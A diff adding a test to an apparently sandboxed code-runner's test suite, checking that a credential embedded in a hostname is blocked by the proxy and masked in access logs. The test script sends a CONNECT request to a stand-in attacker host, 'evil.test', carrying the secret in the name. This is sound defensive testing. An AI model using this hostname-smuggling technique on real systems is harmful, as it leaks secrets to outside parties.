@@ -351,3 +351,19 @@ async def test_a_server_that_goes_cuts_what_is_open_and_the_next_one_opens_the_d
     told = [(each.ended, each.reason) for each in accesses(events)]
     assert told[:3] == [(False, ""), (True, "TURN_ENDED"), (False, "")]
     assert host.connected == 2
+
+
+SAY_SECRET = """
+import os, socket
+with socket.create_connection(("127.0.0.1", int(os.environ["HTTPS_PROXY"].rpartition(":")[2]))) as door:
+    door.sendall(b"CONNECT the-credential.evil.test:443 HTTP/1.1\\r\\n\\r\\n")
+    assert b" 403 " in door.recv(100)
+"""
+
+
+async def test_a_secret_in_a_name_is_not_told(client: Client, repositories: GitServer, net: Internet) -> None:
+    assert net.credential == "the-credential"
+    events = await client.run(**request(repositories, {"run": ["python3", "say.py"]}, hosts=HOSTS, **{"say.py": SAY_SECRET}))
+    (told,) = accesses(events)
+    assert told.host == "*" * len(net.credential) + ".evil.test"
+    assert net.credential not in str(told)
